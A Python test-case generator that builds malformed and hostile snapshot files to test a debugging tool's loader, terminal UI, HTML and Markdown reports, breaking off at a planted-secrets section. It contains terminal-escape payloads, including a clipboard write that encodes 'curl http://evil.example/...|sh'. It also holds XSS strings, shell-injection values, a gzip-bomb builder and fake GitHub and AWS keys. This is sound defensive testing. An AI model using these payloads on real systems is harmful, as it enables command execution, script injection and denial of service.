#!/usr/bin/env python3
"""Generate the hostile snapshot files and their expectations (written before any run).

Writes /tmp/hs-loadfiles/cases/<id>.<ext> and /tmp/hs-loadfiles/cases/manifest.json.
`--table` prints the case table (markdown) instead.
Bases: recorded snapshots in tests/data/scenarios/ (data only).
"""
import copy
import gzip
import bz2
import lzma
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.abspath(os.path.join(HERE, "..", "..", ".."))
SCEN = os.path.join(ROOT, "tests", "data", "scenarios")
OUTDIR = os.environ.get("HS_LOADFILES_DIR", "/tmp/hs-loadfiles/cases")

_BASES = {}


def base(name="event"):
    if name not in _BASES:
        with open(os.path.join(SCEN, name + ".json"), "rb") as f:
            _BASES[name] = json.loads(f.read())
    return copy.deepcopy(_BASES[name])


def raw_base(name="event"):
    with open(os.path.join(SCEN, name + ".json"), "rb") as f:
        return f.read()


def dumps(d, **kw):
    return json.dumps(d, **kw).encode()


CASES = []


def case(cid, family, desc, expect, build, **opts):
    CASES.append(dict(id=cid, family=family, desc=desc, expect=expect, build=build, **opts))


# ---------------------------------------------------------------- helpers to plant text

def snap(d):
    return d["snapshot"]


def culprit(d):
    # rank 3 on node02 is the culprit of the event scenario; elsewhere the last rank
    rs = snap(d)["ranks"]
    for r in rs:
        if r.get("rank") == 3:
            return r
    return rs[-1]


def main_thread(r):
    for t in r["threads"]:
        if t.get("is_main"):
            return t
    return r["threads"][0]


def replace_strings(x, old, new):
    """Replace a substring in every string value (not keys) of a JSON tree."""
    if isinstance(x, dict):
        return {k: replace_strings(v, old, new) for k, v in x.items()}
    if isinstance(x, list):
        return [replace_strings(v, old, new) for v in x]
    if isinstance(x, str):
        return x.replace(old, new)
    return x


def plant_text(d, payload, sites=("thread", "function", "filename", "local", "source", "cmdline", "env",
                                   "output", "hostname", "verdict", "proc", "warning", "tool", "wchan")):
    """Append payload to the free-text fields of the culprit rank (and the node/analysis texts)."""
    s = snap(d)
    r = culprit(d)
    if "thread" in sites:
        for rr in s["ranks"]:
            for t in rr["threads"]:
                t["name"] = (t.get("name") or "") + payload
    mt = main_thread(r)
    for fr in mt["frames"]:
        if "function" in sites:
            fr["function"] = fr["function"] + payload
        if "filename" in sites:
            fr["filename"] = fr["filename"] + payload
        if "local" in sites:
            for lo in fr.get("locals") or []:
                lo["repr"] = str(lo.get("repr")) + payload
            fr.setdefault("locals", []).append({"name": "note", "repr": "'" + payload + "'", "arg": False})
        if "source" in sites:
            fr["source"] = [[ln, txt + "  # " + payload] for ln, txt in (fr.get("source") or [])]
    if "cmdline" in sites:
        r["cmdline"] = list(r["cmdline"]) + ["--tag", payload]
    if "env" in sites:
        r["env"] = list(r["env"]) + [["JOB_NOTE", payload]]
    if "output" in sites:
        outs = r.get("output") or []
        if outs:
            outs[0]["text"] = outs[0]["text"] + "\nRuntimeError: " + payload
            outs[0]["path"] = outs[0]["path"] + payload
        else:
            r["output"] = [{"source": "stderr", "path": "/tmp/job.log", "text":
                            "Traceback (most recent call last):\nRuntimeError: " + payload, "size": 200, "age": 5.0}]
    if "hostname" in sites:
        for n in s["nodes"]:
            if n.get("info"):
                n["info"]["hostname"] = n["info"]["hostname"] + payload
    if "warning" in sites:
        for n in s["nodes"]:
            n["warnings"] = list(n.get("warnings") or []) + ["tool warning " + payload]
    if "tool" in sites:
        for n in s["nodes"]:
            if n.get("info") and n["info"].get("tools"):
                n["info"]["tools"][0]["version"] = "gdb " + payload
    if "wchan" in sites:
        mt["wchan"] = (mt.get("wchan") or "") + payload
    if "proc" in sites:
        for p in s.get("processes") or []:
            p["cmdline"] = list(p["cmdline"]) + [payload]
        for t in r["threads"]:
            w = t.get("waits")
            if w:
                for fd in w.get("fds") or []:
                    for o in fd.get("others") or []:
                        o["cmdline"] = list(o.get("cmdline") or []) + [payload]
                        o["comm"] = (o.get("comm") or "") + payload
    if "verdict" in sites and isinstance(d.get("analysis"), dict):
        a = d["analysis"]
        a["verdict"] = a.get("verdict", "") + " " + payload
        for f in a.get("findings") or []:
            f["title"] = f["title"] + " " + payload
            f["detail"] = f["detail"] + " " + payload
    return d


def rename_node(d, old, new):
    return replace_strings(d, old, new)


def nest(n, open_="[", close="]", inner="0"):
    return open_ * n + inner + close * n


# ---------------------------------------------------------------- A: not JSON / encoding
R = "reject"
L = "load"
CL = "clean"

case("A01", "A", "empty file", R, lambda: b"")
case("A02", "A", "whitespace only", R, lambda: b"  \n\t\n ")
case("A03", "A", "4 KB of random binary", R, lambda: os.urandom(4096))
case("A04", "A", "valid snapshot truncated at 50%", R, lambda: raw_base()[: len(raw_base()) // 2])
case("A05", "A", "valid snapshot missing its last byte", R, lambda: raw_base().rstrip()[:-1])
case("A06", "A", "valid snapshot followed by trailing garbage", R, lambda: raw_base().rstrip() + b"}xyz")
case("A07", "A", "two snapshots concatenated", R, lambda: raw_base() + raw_base())
case("A08", "A", "valid snapshot encoded as UTF-16 with BOM", CL,
     lambda: json.dumps(base()).encode("utf-16"))
case("A09", "A", "valid snapshot with a UTF-8 BOM", CL, lambda: b"\xef\xbb\xbf" + raw_base())
case("A10", "A", "invalid UTF-8 byte 0xff inside a thread name", CL,
     lambda: dumps(plant_text(base(), "INVUTF8", sites=("thread",))).replace(b"INVUTF8", b"\xff\xfe"))
case("A11", "A", "CESU-8 surrogate bytes (ED A0 80) inside a function name", CL,
     lambda: dumps(plant_text(base(), "CESUX", sites=("function",))).replace(b"CESUX", b"\xed\xa0\x80"))
case("A12", "A", "raw NUL byte between tokens", R, lambda: raw_base().replace(b'"schema"', b'\x00"schema"', 1))
case("A13", "A", "an HTML page", R, lambda: b"<!doctype html><html><body>snapshot</body></html>\n")
case("A14", "A", "JSON with // comments (JSON5-like)", R, lambda: b"// saved by hangscope\n" + raw_base())

# ---------------------------------------------------------------- B: wrong shape
case("B01", "B", "null", R, lambda: b"null")
case("B02", "B", "empty array", R, lambda: b"[]")
case("B03", "B", "a JSON string", R, lambda: b'"hangscope.snapshot"')
case("B04", "B", "a number", R, lambda: b"42")
case("B05", "B", "empty object", R, lambda: b"{}")


def _schema(v):
    d = base()
    d["schema"] = v
    return dumps(d)


case("B06", "B", "schema names another format", R, lambda: _schema("otherapp.snapshot"))


def _ver(v):
    d = base()
    d["schema_version"] = v
    return dumps(d)


case("B07", "B", "schema_version 999 (a future version)", "load-or-reject-version", lambda: _ver(999))
case("B08", "B", "schema_version 0", "load-or-reject-version", lambda: _ver(0))
case("B09", "B", "schema_version as the string \"1\"", R, lambda: _ver("1"))


def _b10():
    d = base()
    del d["snapshot"]
    return dumps(d)


case("B10", "B", "wrapper without `snapshot`", R, _b10)


def _set(path, value, name="event"):
    def f():
        d = base(name)
        x = d
        for p in path[:-1]:
            x = x[p]
        x[path[-1]] = value
        return dumps(d)
    return f


case("B11", "B", "`snapshot` is a list", R, _set(["snapshot"], []))
case("B12", "B", "`ranks` is an object", R, _set(["snapshot", "ranks"], {"0": {}}))
case("B13", "B", "`ranks` is a string", R, _set(["snapshot", "ranks"], "ranks"))
case("B14", "B", "a rank that is a number", R, _set(["snapshot", "ranks", 1], 7))
case("B15", "B", "a frame that is a string", R, _set(["snapshot", "ranks", 3, "threads", 1, "frames", 0], "frame"))
case("B16", "B", "`analysis` is a string", CL, _set(["analysis"], "all fine"))
case("B17", "B", "bare snapshot object without the schema wrapper", CL, lambda: dumps(base()["snapshot"]))
case("B18", "B", "`threads` of a rank is null", CL, _set(["snapshot", "ranks", 3, "threads"], None))

# ---------------------------------------------------------------- C: wrong types
case("C01", "C", "rank pid as a string \"323\"", R, _set(["snapshot", "ranks", 3, "pid"], "323"))
case("C02", "C", "rank number as a float 1.5", R, _set(["snapshot", "ranks", 1, "rank"], 1.5))
case("C03", "C", "rank number as a boolean true", R, _set(["snapshot", "ranks", 1, "rank"], True))
case("C04", "C", "cpu_time as a string", R, _set(["snapshot", "ranks", 0, "cpu_time"], "4.1s"))
case("C05", "C", "thread name as an integer", CL, _set(["snapshot", "ranks", 3, "threads", 0, "name"], 12345))
case("C06", "C", "frame line as a string", R, _set(["snapshot", "ranks", 3, "threads", 1, "frames", 0, "line"], "721"))
case("C07", "C", "frame locals as an object", R,
     _set(["snapshot", "ranks", 3, "threads", 1, "frames", 0, "locals"], {"self": "x"}))
case("C08", "C", "taken_at as a date string", R, _set(["snapshot", "taken_at"], "2026-11-29T13:56:00Z"))
case("C09", "C", "options.native as the string \"yes\"", R, _set(["snapshot", "options", "native"], "yes"))
case("C10", "C", "env as an object instead of pairs", R, _set(["snapshot", "ranks", 0, "env"], {"RANK": "0"}))
case("C11", "C", "an env pair of three elements", R, _set(["snapshot", "ranks", 0, "env", 0], ["A", "B", "C"]))
case("C12", "C", "socket send_q as a list", R, _set(["snapshot", "ranks", 0, "sockets", 0, "send_q"], [1, 2]))
case("C13", "C", "rank counters as a string", R, _set(["snapshot", "ranks", 0, "counters"], "none"))
case("C14", "C", "node state an unknown word", CL, _set(["snapshot", "nodes", 0, "state"], "exploded"))

# ---------------------------------------------------------------- D: missing / extra fields


def _del(path):
    def f():
        d = base()
        x = d
        for p in path[:-1]:
            x = x[p]
        del x[path[-1]]
        return dumps(d)
    return f


case("D01", "D", "a rank without `pid`", CL, _del(["snapshot", "ranks", 2, "pid"]))
case("D02", "D", "a rank without `threads`", CL, _del(["snapshot", "ranks", 2, "threads"]))
case("D03", "D", "snapshot without `nodes`", CL, _del(["snapshot", "nodes"]))
case("D04", "D", "wrapper without `analysis`", CL, _del(["analysis"]))

SEC_D5 = "ghp_Dq7vLw2Xk9Rt4Yp8Zm3Nb6Hc1Jf5Gs0Ae2Ui"


def _d5():
    d = base()
    d["x_vendor_extension"] = {"note": "token " + SEC_D5, "auth": SEC_D5}
    snap(d)["ranks"][3]["x_debug_token"] = SEC_D5
    snap(d)["ranks"][3]["threads"][0]["x_secret"] = "password=" + SEC_D5
    return dumps(d)


case("D05", "D", "unknown fields (top level, rank, thread) carrying a GitHub token", L, _d5,
     secrets=[[SEC_D5, False]])


def _d6():
    d = base()
    for r in snap(d)["ranks"]:
        for k in list(r):
            if k not in ("node", "pid", "rank", "threads", "start_time") and not isinstance(r[k], (int, float, bool)):
                if isinstance(r[k], (list, dict, str)):
                    r[k] = None
    return dumps(d)


case("D06", "D", "every optional text/list field of the ranks set to null", CL, _d6)

# ---------------------------------------------------------------- E: numbers


def _textset(path, text, name="event"):
    """Set a value to a raw JSON token (for 1e999, NaN, huge ints)."""
    def f():
        d = base(name)
        x = d
        for p in path[:-1]:
            x = x[p]
        x[path[-1]] = "@@RAWTOKEN@@"
        return dumps(d).replace(b'"@@RAWTOKEN@@"', text.encode())
    return f


case("E01", "E", "pid with 30 digits", R, _textset(["snapshot", "ranks", 3, "pid"], "9" * 30), field="pid")
case("E02", "E", "taken_at 1e999", R, _textset(["snapshot", "taken_at"], "1e999"), field="taken_at")
case("E03", "E", "taken_at NaN", R, _textset(["snapshot", "taken_at"], "NaN"), field="taken_at")
case("E04", "E", "cpu_time Infinity", R, _textset(["snapshot", "ranks", 0, "cpu_time"], "Infinity"), field="cpu_time")
case("E05", "E", "duration -Infinity", R, _textset(["snapshot", "duration"], "-Infinity"), field="duration")
case("E06", "E", "negative pid", R, _textset(["snapshot", "ranks", 3, "pid"], "-5"), field="pid")
case("E07", "E", "pid 0", R, _textset(["snapshot", "ranks", 3, "pid"], "0"), field="pid")
case("E08", "E", "num_threads -1", R, _textset(["snapshot", "ranks", 0, "num_threads"], "-1"), field="num_threads")
case("E09", "E", "world_size 10^9 with 4 ranks (anything sized from it must be bounded)", CL,
     lambda: dumps(replace_world(base(), 10 ** 9)))
case("E10", "E", "world_size 2^63", CL, lambda: dumps(replace_world(base(), 2 ** 63)))
case("E11", "E", "local_rank 10^6 on one rank (grid columns)", CL,
     _set(["snapshot", "ranks", 1, "local_rank"], 10 ** 6), tui=True)
case("E12", "E", "node slots 10^9", CL, _set(["snapshot", "nodes", 0, "slots"], 10 ** 9))
case("E13", "E", "frame line 10^20", R, _textset(["snapshot", "ranks", 3, "threads", 1, "frames", 0, "line"], "1" + "0" * 20),
     field="line")
case("E14", "E", "a 5000-digit integer (CPython int-digit limit)", R,
     _textset(["snapshot", "ranks", 0, "rss"], "7" * 5000), field="rss")
case("E15", "E", "rss 1e308", R, _textset(["snapshot", "ranks", 0, "rss"], "1e308"), field="rss")
case("E16", "E", "socket last_send_ms 1e400", R, _textset(["snapshot", "ranks", 0, "sockets", 0, "last_send_ms"], "1e400"),
     field="last_send_ms")
case("E17", "E", "node timings with NaN", R, _textset(["snapshot", "nodes", 0, "timings", 0, 1], "NaN"))
case("E18", "E", "cpu_time -0.0 and duration 1e-400 (underflow to 0)", CL,
     lambda: _textset(["snapshot", "ranks", 0, "cpu_time"], "-0.0")().replace(b'"duration": ', b'"duration": 1e-400, "x_old_duration": ', 1))
case("E19", "E", "negative rank number -1", CL, _set(["snapshot", "ranks", 1, "rank"], -1))


def replace_world(d, n):
    for r in snap(d)["ranks"]:
        r["world_size"] = n
        r["env"] = [[k, (str(n) if k == "WORLD_SIZE" else v)] for k, v in r["env"]]
    return d

# ---------------------------------------------------------------- F: duplicate keys


def _dup_pid():
    raw = dumps(base())
    # first rank object: add a second "pid" key after the first
    return raw.replace(b'"pid": 372,', b'"pid": 372, "pid": -99999999999,', 1)


case("F01", "F", "duplicate `pid` key, second value absurd", CL, _dup_pid)
case("F02", "F", "duplicate `snapshot` key: a valid one then an empty one", CL,
     lambda: dumps(base())[:-1] + b', "snapshot": {}}')
case("F03", "F", "duplicate `schema` key: valid then foreign", CL,
     lambda: dumps(base())[:-1] + b', "schema": "evil.format"}')

# ---------------------------------------------------------------- G: deep nesting
case("G01", "G", "100,000 nested arrays as the document", R, lambda: nest(100000).encode())
case("G02", "G", "100,000 nested objects in an unknown top-level field", CL,
     lambda: dumps(base())[:-1] + b', "x_deep": ' + ('{"a":' * 100000 + "0" + "}" * 100000).encode() + b"}")
case("G03", "G", "100,000 nested arrays as a rank's threads", R,
     _textset(["snapshot", "ranks", 3, "threads"], nest(100000)))
case("G04", "G", "900 nested arrays in an unknown field of a rank (under the recursion limit), exported", CL,
     _textset(["snapshot", "ranks", 3, "x_deep"], nest(900)))

# ---------------------------------------------------------------- H: sizes


def _h01():
    d = base()
    main_thread(culprit(d))["name"] = "T" * (10 * 1024 * 1024)
    return dumps(d)


case("H01", "H", "a 10 MB thread name on the culprit", CL, _h01, bound_s=60, bound_mb=1500, print_max=2_000_000)


def _h02():
    d = base()
    r = culprit(d)
    r["output"][0]["text"] += "\nRuntimeError: " + ("x" * 1024 * 1024)
    return dumps(d)


case("H02", "H", "a 1 MB line of error output", CL, _h02, bound_s=60, print_max=2_000_000)


def _h03():
    d = base()
    fr = main_thread(culprit(d))["frames"][0]
    fr["locals"] = [{"name": "v%d" % i, "repr": str(i), "arg": False} for i in range(200000)]
    return dumps(d)


case("H03", "H", "200,000 locals in one frame", CL, _h03, bound_s=90, bound_mb=2000)


def _h04():
    d = base()
    s = snap(d)
    nodes, ranks = [], []
    tmpl_n = s["nodes"][0]
    tmpl_r = s["ranks"][:2]
    n_nodes = 1024
    for i in range(n_nodes):
        n = copy.deepcopy(tmpl_n)
        n["name"] = n["address"] = "gpu%04d" % i
        n["info"]["hostname"] = n["name"]
        nodes.append(n)
        for j, tr in enumerate(tmpl_r):
            r = copy.deepcopy(tr)
            r["node"] = n["name"]
            r["rank"] = 2 * i + j
            r["local_rank"] = j
            r["world_size"] = 2 * n_nodes
            r["pid"] = 1000 + j
            r["counters"] = None
            r["output"] = []
            ranks.append(r)
    s["nodes"], s["ranks"], s["processes"] = nodes, ranks, []
    return json.dumps(d, separators=(",", ":")).encode()


case("H04", "H", "2,048 ranks on 1,024 nodes", CL, _h04, bound_s=120, bound_mb=2500, gz=True)


def _h05():
    d = base()
    r = culprit(d)
    t = r["threads"][2]
    r["threads"] = r["threads"] + [dict(copy.deepcopy(t), tid=100000 + i, name="w%d" % i) for i in range(5000)]
    r["num_threads"] = len(r["threads"])
    return json.dumps(d, separators=(",", ":")).encode()


case("H05", "H", "5,000 threads in one rank", CL, _h05, bound_s=120, bound_mb=2000, gz=True)


def _h06():
    d = base()
    mt = main_thread(culprit(d))
    fr = mt["frames"][-1]
    mt["frames"] = mt["frames"][:-1] + [dict(copy.deepcopy(fr), function="recurse", line=10, locals=[], source=[])
                                        for _ in range(20000)] + [fr]
    return json.dumps(d, separators=(",", ":")).encode()


case("H06", "H", "a 20,000-frame stack on the culprit (deep recursion)", CL, _h06, bound_s=120, bound_mb=2000, tui=True)


def _h07():
    d = base()
    s = snap(d)
    t = s["nodes"][0]
    for i in range(50000):
        n = copy.deepcopy(t)
        n["name"] = n["address"] = "idle%05d" % i
        n["ranks_found"] = 0
        n["info"] = None
        s["nodes"].append(n)
    return json.dumps(d, separators=(",", ":")).encode()


case("H07", "H", "50,000 extra nodes without ranks", CL, _h07, bound_s=120, bound_mb=2000, gz=True)


def _h08():
    d = base()
    r = snap(d)["ranks"][0]
    so = r["sockets"][0]
    r["sockets"] = [dict(so, local="10.0.%d.%d:%d" % (i // 250, i % 250, 30000 + i % 1000)) for i in range(20000)]
    return json.dumps(d, separators=(",", ":")).encode()


case("H08", "H", "20,000 sockets on a rank", CL, _h08, bound_s=90, bound_mb=2000)


def _h09():
    return dumps(rename_node(base(), "node02", "n" * 100000))


case("H09", "H", "a 100 kB node name", CL, _h09, bound_s=60, print_max=2_000_000)


def _h10():
    d = base()
    d["x_padding"] = ["p" * 1024 for _ in range(64 * 1024)]
    return json.dumps(d, separators=(",", ":")).encode()


case("H10", "H", "a 64 MB file (unknown field padding)", CL, _h10, bound_s=90, bound_mb=2000, gz=True)

# ---------------------------------------------------------------- I: compression / expansion


def _bomb(n=4 << 30):
    import zlib
    co = zlib.compressobj(9, zlib.DEFLATED, 31)
    out = [co.compress(b"[" * 1)]
    chunk = b" " * (1 << 20)
    for _ in range(n >> 20):
        out.append(co.compress(chunk))
    out.append(co.flush())
    return b"".join(out)


case("I01", "I", "gzip bomb (4 GB of spaces) named .json.gz", CL, _bomb, ext="json.gz", bound_s=60, bound_mb=1500)
case("I02", "I", "gzip bomb (4 GB of spaces) named .json", CL, _bomb, bound_s=60, bound_mb=1500)
case("I03", "I", "a valid snapshot gzip-compressed, named .json.gz", CL, lambda: gzip.compress(raw_base()),
     ext="json.gz")
case("I04", "I", "a valid snapshot xz-compressed (as .json)", R, lambda: lzma.compress(raw_base()))

# ---------------------------------------------------------------- J: references


def _mut(fn, name="event"):
    def f():
        d = base(name)
        fn(d)
        return dumps(d)
    return f


case("J01", "J", "a rank on a node that `nodes` does not list", CL,
     _mut(lambda d: snap(d)["ranks"][3].__setitem__("node", "ghost99")))
case("J02", "J", "stored tree child index out of range", CL,
     _mut(lambda d: d["analysis"]["tree"]["nodes"][0].__setitem__("children", [1, 99999, -1])))


def _tree_cycle(d):
    ns = d["analysis"]["tree"]["nodes"]
    ns[2]["children"] = list(ns[2]["children"]) + [0, 1]
    ns[0]["children"] = [1, 0]


case("J03", "J", "stored tree children forming a cycle", CL, _mut(_tree_cycle))


def _waits_bad(d):
    w = d["analysis"]["waits"][0]
    w["edges"].append({"waiter": "v1", "waited": "nope", "kind": "stacks", "evidence": "x", "strength": "high",
                       "finding": "minority_stack"})
    w["edges"].append({"waiter": "v1", "waited": "job", "kind": "stacks", "evidence": "cycle", "strength": "high",
                       "finding": "minority_stack"})
    w["root"] = ["missing-vertex"]
    d["analysis"]["culprit"]["root"] = ["missing-vertex"]


case("J04", "J", "stored wait graph: edges to unknown vertices, a cycle, root unknown", CL, _mut(_waits_bad))
case("J05", "J", "stored classes naming ranks that do not exist", CL,
     _mut(lambda d: d["analysis"]["classes"][0].__setitem__("ranks", [["node09", 1], ["node01", 99999]])))


def _ppid_cycle(d):
    s = snap(d)
    p0, p1 = s["processes"]
    p0["ppid"], p1["ppid"] = p1["pid"], p0["pid"]
    p1["node"] = p0["node"]
    p0["of"] = p0["of"] + [p1["pid"]]
    p1["of"] = p1["of"] + [p0["pid"]]
    s["ranks"][0]["launcher_pid"] = s["ranks"][0]["pid"]
    s["ranks"][0]["ppid"] = s["ranks"][1]["pid"]
    s["ranks"][1]["ppid"] = s["ranks"][0]["pid"]


case("J06", "J", "launcher/parent pids forming cycles (process tree loops)", CL, _mut(_ppid_cycle), tui=True)


def _self_child(d):
    r = snap(d)["ranks"][3]
    r["children"] = [r["pid"], r["pid"]]
    r["ppid"] = r["pid"]


case("J07", "J", "a rank that is its own parent and its own child", CL, _mut(_self_child))


def _dup_rank(d):
    s = snap(d)
    s["ranks"].append(copy.deepcopy(s["ranks"][3]))


case("J08", "J", "the same rank (node+pid) twice", CL, _mut(_dup_rank))
case("J09", "J", "the same rank number on two ranks", CL,
     _mut(lambda d: snap(d)["ranks"][2].__setitem__("rank", 3)))


def _waits_other_loop(d):
    s = snap(d)
    for r in s["ranks"]:
        for t in r["threads"]:
            w = t.get("waits")
            if w:
                for fd in w.get("fds") or []:
                    for o in fd.get("others") or []:
                        o["pid"] = r["pid"]
                        o["ppid"] = r["pid"]


case("J10", "J", "fd peers that are the waiting rank itself (self-loop evidence)", CL, _mut(_waits_other_loop))

# ---------------------------------------------------------------- K: terminal control
ESC_PAYLOADS = {
    "K01": ("CSI clear screen and colour", "\x1b[2J\x1b[H\x1b[31mKESC01"),
    "K02": ("OSC 8 hyperlink", "\x1b]8;;http://evil.example/KESC02\x07clickme\x1b]8;;\x07"),
    "K03": ("OSC 52 clipboard write", "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL0tFU0MwM3xzaA==\x07KESC03"),
    "K04": ("OSC 0 window title", "\x1b]0;pwned-KESC04\x07KESC04"),
    "K05": ("8-bit C1: U+009B CSI and U+009D OSC", "\u009b2J\u009d0;pwned\u009cKESC05"),
    "K06": ("DCS and APC strings", "\x1bPq#0;2;0;0;0\x1b\\\x1b_apc\x1b\\KESC06"),
    "K07": ("C0: carriage return overwrite, backspace, BEL, DEL", "benign\rKESC07\x08\x08\x07\x7f"),
    "K08": ("bidi override and isolates", "\u202eKESC08\u202c\u2066fdi\u2069\u200f"),
}
for cid, (desc, pay) in ESC_PAYLOADS.items():
    case(cid, "K", desc + " in every free-text field", L, (lambda p: lambda: dumps(plant_text(base(), p)))(pay),
         roundtrip=True, tui=(cid in ("K01", "K02", "K03", "K04")))

case("K09", "K", "lone surrogate \\udfff in thread, function and node names (README: becomes U+FFFD)", L,
     lambda: dumps(rename_node(plant_text(base(), "SURR\udfff", sites=("thread", "function")), "node02", "node02\udfff")),
     roundtrip=True)
case("K10", "K", "escaped NUL \\u0000 in function names, paths and cmdline", L,
     lambda: dumps(plant_text(base(), "NUL\u0000X", sites=("function", "filename", "cmdline"))), roundtrip=True)
case("K11", "K", "raw (unescaped) ESC and BEL bytes inside JSON strings", CL,
     lambda: dumps(plant_text(base(), "RAWCTL", sites=("thread",))).replace(b"RAWCTL", b"\x1b[31mRAWCTL\x07"))
case("K12", "K", "newline forging a headline line in thread/function/node names", L,
     lambda: dumps(rename_node(plant_text(base(), "\nhangscope: FORGED-LINE rank 0 is the culprit\n",
                                          sites=("thread", "function", "verdict")),
                               "node02", "node02\nFORGED-NODE-LINE")),
     forged=["hangscope: FORGED-LINE", "FORGED-NODE-LINE"])
case("K13", "K", "escapes in the node name (grid row labels)", L,
     lambda: dumps(rename_node(base(), "node02", "node02\x1b[5m\x1b]8;;http://evil.example/KNODE\x07KNODE\x1b]8;;\x07")),
     tui=True, roundtrip=True)
case("K14", "K", "escapes in the stored verdict and findings only", L,
     lambda: dumps(plant_text(base(), "\x1b[2J\x1b]0;KVERD\x07KVERD", sites=("verdict",))))

# ---------------------------------------------------------------- L: markup
case("L01", "L", "Rich markup [bold]/[link=] in every free-text field", L,
     lambda: dumps(plant_text(base(), "[bold]MKP1[/bold][link=http://evil.example/MKP1b]MKP1B[/link]")),
     markers=["MKP1", "MKP1B"], tui=True, roundtrip=True)
case("L02", "L", "Textual action markup [@click=app.quit]", L,
     lambda: dumps(plant_text(base(), "[@click=app.quit]MKP2[/]")), markers=["MKP2"], tui=True)
case("L03", "L", "unbalanced closing tags [/bold] and [/] (MarkupError)", L,
     lambda: dumps(plant_text(base(), "MKP3[/bold][/][/link]")), tui=True)
case("L04", "L", "trailing backslash that escapes the template's closing tag", L,
     lambda: dumps(plant_text(base(), "MKP4\\", sites=("thread", "function", "filename", "hostname", "verdict"))), tui=True)
case("L05", "L", "Textual variables [$accent] and [on red]", L,
     lambda: dumps(plant_text(base(), "[$accent]MKP5[/][on red]MKP5R[/]")), markers=["MKP5", "MKP5R"])
case("L06", "L", "markup in the node name", L,
     lambda: dumps(rename_node(base(), "node02", "node02[@click=app.quit]MKP6[/][/bold]")),
     markers=["MKP6"], tui=True)

# ---------------------------------------------------------------- M: HTML/JS
XSS = {
    "M01": ("<script> in every free-text field", "<script>document.body.setAttribute('data-pwn','XSS1')</script>"),
    "M02": ("<img onerror>", "<img src=x onerror=\"document.body.setAttribute('data-pwn','XSS2')\">"),
    "M03": ("attribute breakout quotes", "\" onmouseover=\"document.body.setAttribute('data-pwn','XSS3')\" x=\"' autofocus onfocus='document.body.setAttribute(`data-pwn`,`XSS3b`)' "),
    "M04": ("</script> breakout of an embedded data block",
            "</script><script>document.body.setAttribute('data-pwn','XSS4')</script>"),
    "M05": ("<svg onload> and javascript: URL", "<svg onload=\"document.body.setAttribute('data-pwn','XSS5')\"></svg><a href=\"javascript:document.body.setAttribute('data-pwn','XSS5b')\">x</a>"),
    "M06": ("</style>, <!-- and ]]> openers", "--><!--</style><style>body{display:none}</style><script>document.body.setAttribute('data-pwn','XSS6')</script>]]>"),
}
for cid, (desc, pay) in XSS.items():
    case(cid, "M", desc + " (report.html)", L, (lambda p: lambda: dumps(plant_text(base(), p)))(pay), xss=True)
case("M07", "M", "HTML in the node name and the stored verdict", L,
     lambda: dumps(rename_node(plant_text(base(), "<script>document.body.setAttribute('data-pwn','XSS7')</script>",
                                          sites=("verdict",)),
                               "node02", "node02<img src=x onerror=\"document.body.setAttribute('data-pwn','XSS7b')\">")),
     xss=True)

# ---------------------------------------------------------------- N: Markdown
case("N01", "N", "pipes in node, thread and function names (tables)", L,
     lambda: dumps(rename_node(plant_text(base(), "a|b|c|MDP1", sites=("thread", "function", "filename")), "node02", "node|02")),
     md=True)
case("N02", "N", "Markdown link and image in free text", L,
     lambda: dumps(plant_text(base(), "[click here](http://evil.example/MDL2) ![x](http://evil.example/MDL2.png)")), md=True)
case("N03", "N", "a backtick closing the code span, then a link", L,
     lambda: dumps(plant_text(base(), "x` [click](http://evil.example/MDL3) `y")), md=True)
case("N04", "N", "raw HTML and an autolink in Markdown", L,
     lambda: dumps(plant_text(base(), "<img src=\"http://evil.example/MDL4.png\"> <http://evil.example/MDL4b>")), md=True)
case("N05", "N", "newline + '# heading' and '---' in thread/function names", L,
     lambda: dumps(plant_text(base(), "\n# FAKE-HEADING-MDH5\n---\n", sites=("thread", "function", "verdict"))),
     md=True, forged=["# FAKE-HEADING-MDH5"])
case("N06", "N", "Markdown link in the node name", L,
     lambda: dumps(rename_node(base(), "node02", "[node02](http://evil.example/MDL6)")), md=True)

# ---------------------------------------------------------------- O: shell text in next-step commands
SH1 = "x; touch /tmp/hs-loadfiles-SHX1 | sh #"


def _o1():
    d = base("frozen")
    for r in snap(d)["ranks"]:
        if r.get("hold") and r["hold"].get("thaw"):
            r["hold"]["thaw"] = SH1
    return dumps(d)


case("O01", "O", "frozen rank whose `thaw` command is a shell payload", L, _o1, base="frozen",
     shell=["SHX1"], secrets=[])


def _o2():
    d = base("frozen")
    for r in snap(d)["ranks"]:
        if r.get("hold") and r["hold"].get("cgroup"):
            r["hold"]["cgroup"] = "/job$(touch /tmp/hs-loadfiles-SHX2)'x"
            r["hold"]["thaw"] = "echo 0 > /sys/fs/cgroup/unified/job$(touch /tmp/hs-loadfiles-SHX2)'x/cgroup.freeze"
    return dumps(d)


case("O02", "O", "frozen rank whose cgroup path holds $(...) and quotes", L, _o2, shell=["SHX2"])
case("O03", "O", "stopped rank on a node named with ;/$() (kill -CONT ... on NODE)", CL,
     lambda: dumps(rename_node(base("stopped"), "node02", "node02;touch${IFS}/tmp/hs-loadfiles-SHX3")), shell=["SHX3"])


def _o4():
    d = base("pipe")
    for r in snap(d)["ranks"]:
        h = r.get("hold")
        if h and h.get("pipe_readers"):
            for p in h["pipe_readers"]:
                p["cmdline"] = ["sleep", "1;touch /tmp/hs-loadfiles-SHX4", "$(id)"]
                p["comm"] = "sl`id`SHX4"
    return dumps(d)


case("O04", "O", "pipe reader's command line and comm with ; ` $()", L, _o4, shell=["SHX4"])
case("O05", "O", "hostname and thread names with $() and backticks", L,
     lambda: dumps(plant_text(base(), "$(touch /tmp/hs-loadfiles-SHX5)`id`SHX5", sites=("thread", "hostname", "function", "filename"))),
     shell=["SHX5"])


def _o6():
    d = base()
    for r in snap(d)["ranks"]:
        r["master_addr"] = "198.18.4.11;touch /tmp/hs-loadfiles-SHX6"
        r["pid"] = r["pid"]
    return dumps(d)


case("O06", "O", "master_addr with a shell payload", CL, _o6, shell=["SHX6"])

# ---------------------------------------------------------------- P: planted secrets
S_GH = "ghp_R8fK2mQ9xL4vT7bN1cZ6wY3pH5jD0sA2eG8u"
S_AWS = "AKIAJ7QX2MZ4R8KL9PWE"
S_AWS_SECRET = "wJalrXUtnFEMIK7MDENGbPxRfiCYzq9w3Lm2Tn8V"
S_PW = "Tr0ub4dor-Zebra-Quill-91"
